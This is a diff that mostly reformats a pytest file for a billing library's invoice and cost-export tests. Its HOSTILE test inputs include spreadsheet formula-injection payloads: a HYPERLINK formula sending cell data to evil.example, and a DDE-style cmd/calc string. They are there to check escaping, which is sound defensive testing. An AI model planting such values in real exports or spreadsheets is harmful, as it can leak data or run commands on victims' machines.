@@ -29,7 +29,10 @@ HOSTILE = [
     ("<b>x</b>&amp;", "<b>x</b>&amp;"),
     ("\"q'uote", "\"q'uote"),
     ("new\nline", "new\\nline"),
-    ('=HYPERLINK("http://evil.example/?"&A1,"click")', '=HYPERLINK("http://evil.example/?"&A1,"click")'),
+    (
+        '=HYPERLINK("http://evil.example/?"&A1,"click")',
+        '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    ),
     ("+1", "+1"),
     ("-cmd", "-cmd"),
     ("@SUM(1+1)*cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"),
@@ -57,7 +60,9 @@ def _billed(name: str) -> tuple[rk.Rating, tuple[rk.Invoice, ...]]:
 
     2.5 units at 1.10 = 2.75, a fee of 3: 5.75; the credit pays 1.00: 4.75.
     """
-    plan = rk.Plan(name, "EUR", MONTHS, [rk.PriceEntry(name, name, rk.PerUnit("1.10"))], fees=[rk.Fee(name, 3)])
+    plan = rk.Plan(
+        name, "EUR", MONTHS, [rk.PriceEntry(name, name, rk.PerUnit("1.10"))], fees=[rk.Fee(name, 3)]
+    )
     row = rk.UsageRow(name, name, name, MARCH, MARCH, "2.5", name, {name: name}, (name,))
     rating = rk.rate([row], plan, span=MARCH)
     credit = rk.Credit(name, name, 1, "EUR", start=MARCH.start)
@@ -65,7 +70,9 @@ def _billed(name: str) -> tuple[rk.Rating, tuple[rk.Invoice, ...]]:
 
 
 @pytest.mark.parametrize(("name", "shown"), HOSTILE, ids=range(len(HOSTILE)))
-def test_the_text_invoice_shows_a_hostile_name_escaped_and_loses_no_line(name: str, shown: str) -> None:
+def test_the_text_invoice_shows_a_hostile_name_escaped_and_loses_no_line(
+    name: str, shown: str
+) -> None:
     (invoice,) = _billed(name)[1]
     (plain,) = _billed("plain")[1]
     text = str(invoice)
@@ -95,7 +102,9 @@ def test_focus_rows_pass_a_hostile_name_through_and_add_up(name: str, shown: str
     del shown
     _, invoices = _billed(name)
     rows = rk.focus_rows(invoices, provider="Example SaaS")
-    assert [(r["ChargeCategory"], r["BillingAccountId"], r["ResourceId"], r["BilledCost"]) for r in rows] == [
+    assert [
+        (r["ChargeCategory"], r["BillingAccountId"], r["ResourceId"], r["BilledCost"]) for r in rows
+    ] == [
         ("Usage", name, name, "2.75"),
         ("Purchase", name, None, "3.00"),
         ("Credit", name, None, "-1.00"),
@@ -148,9 +157,13 @@ def test_the_same_hostile_rating_twice_gives_byte_identical_exports() -> None:
 
 
 def _one(quantity: str, price: str, quantum: str | None = None) -> tuple[rk.Rating, rk.Invoice]:
-    extra = {} if quantum is None else {"quantum": quantum}
-    plan = rk.Plan("p", "EUR", MONTHS, [rk.PriceEntry("e", "m", rk.PerUnit(price))], **extra)  # type: ignore[arg-type]
-    rating = rk.rate([rk.UsageRow("a", "m", "r", MARCH, MARCH, quantity, "GB", {}, ("s1",))], plan, span=MARCH)
+    entries = [rk.PriceEntry("e", "m", rk.PerUnit(price))]
+    if quantum is None:
+        plan = rk.Plan("p", "EUR", MONTHS, entries)
+    else:
+        plan = rk.Plan("p", "EUR", MONTHS, entries, quantum=quantum)
+    row = rk.UsageRow("a", "m", "r", MARCH, MARCH, quantity, "GB", {}, ("s1",))
+    rating = rk.rate([row], plan, span=MARCH)
     (invoice,) = rk.bill(rating)
     return rating, invoice
 
@@ -168,7 +181,9 @@ def test_a_tiny_quantity_is_kept_exactly_and_rounds_to_zero_on_the_cent() -> Non
     # 1E-30 GB x 1 = 1E-30: 0.00 on the cent, the exact amount kept and exported plainly
     rating, invoice = _one("1E-30", "1")
     assert (invoice.total, invoice.precise_total) == (Decimal("0.00"), Decimal("1E-30"))
-    assert rk.focus_rows(rating, provider="X")[0]["BilledCost"] == "0.000000000000000000000000000001"
+    assert (
+        rk.focus_rows(rating, provider="X")[0]["BilledCost"] == "0.000000000000000000000000000001"
+    )
     assert rk.focus_rows([invoice], provider="X")[0]["BilledCost"] == "0.00"
     # on a quantum of 1E-30 it is billed whole
     _, fine = _one("1E-30", "1", quantum="1E-30")
@@ -207,7 +222,10 @@ def test_a_negative_correction_lowers_the_invoice_and_no_credit_pays_it() -> Non
     assert (invoice.subtotal, invoice.total) == (Decimal("-2.00"), Decimal("-2.00"))
     assert [(c.applied, c.left) for c in invoice.credits] == [(Decimal("0.00"), Decimal("5.00"))]
     rows_out = rk.focus_rows([invoice], provider="X")
-    assert [(r["ChargeCategory"], r["BilledCost"]) for r in rows_out] == [("Usage", "-3.00"), ("Usage", "1.00")]
+    assert [(r["ChargeCategory"], r["BilledCost"]) for r in rows_out] == [
+        ("Usage", "-3.00"),
+        ("Usage", "1.00"),
+    ]
 
 
 def test_charges_that_cancel_split_their_zero_line_without_dividing_by_zero() -> None:
@@ -237,10 +255,20 @@ def test_an_empty_cycle_exports_nothing_and_keeps_the_frames_columns() -> None:
 
 def test_an_assigned_account_with_an_empty_cycle_pays_its_fee_and_commitment() -> None:
     # 10 + (20 - 0) = 30.00
-    plan = rk.Plan("p", "EUR", MONTHS, [rk.PriceEntry("e", "m", rk.PerUnit(1))], fees=[rk.Fee("f", 10)], minimums=[rk.Minimum(20)])
+    plan = rk.Plan(
+        "p",
+        "EUR",
+        MONTHS,
+        [rk.PriceEntry("e", "m", rk.PerUnit(1))],
+        fees=[rk.Fee("f", 10)],
+        minimums=[rk.Minimum(20)],
+    )
     (invoice,) = rk.bill(rk.rate([], [rk.Assignment("quiet", plan)], span=MARCH))
     rows = rk.focus_rows([invoice], provider="X")
-    assert [(r["ChargeCategory"], r["BilledCost"]) for r in rows] == [("Purchase", "10.00"), ("Adjustment", "20.00")]
+    assert [(r["ChargeCategory"], r["BilledCost"]) for r in rows] == [
+        ("Purchase", "10.00"),
+        ("Adjustment", "20.00"),
+    ]
     assert invoice.total == Decimal("30.00")
 
 
@@ -249,7 +277,17 @@ def test_five_thousand_resources_lose_no_line_in_any_view() -> None:
     # 2500 halves = 17495 GB at 0.0037 = 64.7315, billed 64.73 (half-even)
     plan = rk.Plan("p", "EUR", MONTHS, [rk.PriceEntry("e", "m", rk.PerUnit("0.0037"))])
     rows = [
-        rk.UsageRow("a", "m", f"r{i:05d}", MARCH, MARCH, Decimal(i % 7) + Decimal("0.5"), "GB", {}, (f"s{i}",))
+        rk.UsageRow(
+            "a",
+            "m",
+            f"r{i:05d}",
+            MARCH,
+            MARCH,
+            Decimal(i % 7) + Decimal("0.5"),
+            "GB",
+            {},
+            (f"s{i}",),
+        )
         for i in range(5000)
     ]
     rating = rk.rate(rows, plan, span=MARCH)
@@ -278,6 +316,9 @@ def test_an_error_about_a_megabyte_id_is_not_a_megabyte() -> None:
     assert len(str(error.value)) < 1000
     assert "has no plan" in str(error.value)
     with pytest.raises(rk.CurrencyMismatchError) as mismatch:
-        rk.bill(rk.rate([row], plan, span=MARCH), credits=[rk.Credit("c", big, 1, "USD", start=MARCH.start)])
+        rk.bill(
+            rk.rate([row], plan, span=MARCH),
+            credits=[rk.Credit("c", big, 1, "USD", start=MARCH.start)],
+        )
     assert len(str(mismatch.value)) < 1000
     assert "grant credits in the currency of the account's plan" in str(mismatch.value)
